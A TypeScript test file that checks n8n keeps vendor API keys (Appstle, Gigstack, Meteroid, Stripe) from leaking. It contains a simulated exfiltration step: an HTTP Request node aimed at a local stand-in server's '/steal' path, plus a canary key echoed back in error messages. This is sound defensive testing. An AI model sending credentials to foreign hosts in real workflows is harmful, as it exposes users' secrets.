import { withCredentials } from '../../../demo/workflow';
import { credentialType, vendorNames, vendors } from '../../../scripts/vendors';
import { flowOf, listOf, node, start } from '../flow';
import { check } from '../report';
import { credentialOf, type Stage } from '../stage';
import { startStranger } from '../stranger';

/** Whoever may use a credential cannot have its key sent elsewhere by n8n's own HTTP Request node. */
export async function keysGoToTheirServerAlone(stage: Stage): Promise<void> {
	const { editor, sandbox } = stage;
	const stranger = await startStranger((_request, response) => response.end('{}'));
	for (const [provider, path] of [
		['appstle', '/api/external/v2/subscription-contract-details/customers?page=0&size=1'],
		['gigstack', '/clients?limit=1'],
		['meteroid', '/api/v1/customers?per_page=1'],
		['stripe', '/v1/customers?limit=1'],
	] as const) {
		const credential = credentialOf(stage.credentials, credentialType(vendors[provider]));
		const request = (name: string, url: string) =>
			node(
				name,
				'n8n-nodes-base.httpRequest',
				{
					url,
					authentication: 'predefinedCredentialType',
					nodeCredentialType: credential.type,
				},
				{ typeVersion: 4.2, onError: 'continueErrorOutput' },
			);
		const rows = [
			[...listOf([{}]), request('Own', sandbox[provider].baseUrl + path)],
			[request('Foreign', `${stranger.url}/steal`)],
		];
		const anywhere = { ...credential, isFor: () => true };
		await editor.saveWorkflow('foreign', withCredentials(flowOf('Foreign', ...rows), [anywhere]));
		const { items } = await editor.execute('foreign', start);
		check(`${provider}: its own server is asked with the key`, items('Own').length > 0, true);
		check(`${provider}: another is not`, items('Foreign', 1).length, 1);
	}
	check('nothing is heard there', stranger.heard, 0);
	stranger.stop();
}

/** What a server says instead of a reason is not shown, as a key may be in it. */
export async function credentialTestsQuoteNobody(stage: Stage): Promise<void> {
	const canary = 'pv_CANARYCANARYCANARY';
	let status = 0;
	const stranger = await startStranger((_request, response) => {
		response.writeHead(status, `the key ${canary} is wrong`).end();
	});
	for (const provider of vendorNames) {
		const type = credentialType(vendors[provider]);
		const { data, ...credential } = credentialOf(stage.credentials, type);
		for (status of [400, 401, 429, 500, 503, 530]) {
			const { message } = await stage.editor.testCredential({
				...credential,
				data: { ...data, apiKey: canary, baseUrl: stranger.url },
			});
			check(
				`${provider}: status ${status}`,
				[message.includes(canary), message === ''],
				[false, false],
			);
		}
	}
	stranger.stop();
}
